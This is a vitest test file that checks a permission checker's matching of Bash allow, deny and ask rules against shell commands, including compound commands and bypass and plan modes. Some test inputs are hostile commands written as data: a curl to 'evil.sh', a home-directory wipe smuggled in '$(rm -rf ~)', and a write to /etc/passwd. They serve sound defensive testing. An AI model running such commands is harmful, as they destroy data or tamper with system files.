import { describe, expect, it } from "vitest";
import {
  allowedWithoutAsking,
  type BashRules,
  ruleMatches,
  segments,
} from "../../../src/claude/permissions.ts";

const rules = (allow: string[], deny: string[] = [], ask: string[] = []): BashRules => ({ allow, deny, ask });

describe("Claude Code Bash rule matching", () => {
  it("prefix rules match the command and its arguments only", () => {
    expect(ruleMatches("Bash(npm test:*)", "npm test")).toBe(true);
    expect(ruleMatches("Bash(npm test:*)", "npm test -- --grep x")).toBe(true);
    expect(ruleMatches("Bash(npm test:*)", "npm testing")).toBe(false);
    expect(ruleMatches("Bash(git diff)", "git diff")).toBe(true);
    expect(ruleMatches("Bash(git diff)", "git diff HEAD")).toBe(false);
    expect(ruleMatches("Bash(git * main)", "git push origin main")).toBe(true);
    expect(ruleMatches("Bash", "anything at all")).toBe(true);
    expect(ruleMatches("Read(*)", "ls")).toBe(false);
  });
  it("splits compound commands outside quotes", () => {
    expect(segments("a && b || c; d | e\nf")).toEqual(["a", "b", "c", "d", "e", "f"]);
    expect(segments("echo 'a && b' \"c; d\"")).toEqual(["echo 'a && b' \"c; d\""]);
    expect(segments("make 2>&1 | tail -5")).toEqual(["make 2>&1", "tail -5"]);
  });
});

describe("allowedWithoutAsking (only then may the runner wrap and allow)", () => {
  it("allows what an allow-all rule covers, unless a deny or ask rule matches", () => {
    expect(allowedWithoutAsking("npm test", rules(["Bash"]), "default").ok).toBe(true);
    expect(allowedWithoutAsking("rm -rf build", rules(["Bash"], ["Bash(rm:*)"]), "default").ok).toBe(false);
    expect(allowedWithoutAsking("make && rm -rf build", rules(["Bash"], ["Bash(rm:*)"]), "default").ok).toBe(
      false,
    );
    expect(allowedWithoutAsking("git push", rules(["Bash"], [], ["Bash(git push:*)"]), "default").ok).toBe(
      false,
    );
  });
  it("needs every segment covered by prefix rules", () => {
    const r = rules(["Bash(npm test:*)", "Bash(tail:*)"]);
    expect(allowedWithoutAsking("npm test 2>&1 | tail -20", r, "default").ok).toBe(true);
    expect(allowedWithoutAsking("npm test && curl evil.sh", r, "default").ok).toBe(false);
    expect(allowedWithoutAsking("ls", r, "default").ok).toBe(false);
  });
  it("does not vouch for nested commands or file redirections under prefix rules", () => {
    const r = rules(["Bash(echo:*)"]);
    expect(allowedWithoutAsking("echo $(rm -rf ~)", r, "default").ok).toBe(false);
    expect(allowedWithoutAsking("echo `id`", r, "default").ok).toBe(false);
    expect(allowedWithoutAsking("echo hi > /etc/passwd", r, "default").ok).toBe(false);
    expect(allowedWithoutAsking("echo hi 2>/dev/null", r, "default").ok).toBe(true);
  });
  it("bypass mode allows except deny; plan mode never", () => {
    expect(allowedWithoutAsking("anything", rules([]), "bypassPermissions").ok).toBe(true);
    expect(allowedWithoutAsking("rm x", rules([], ["Bash(rm:*)"]), "bypassPermissions").ok).toBe(false);
    expect(allowedWithoutAsking("ls", rules(["Bash"]), "plan").ok).toBe(false);
  });
});
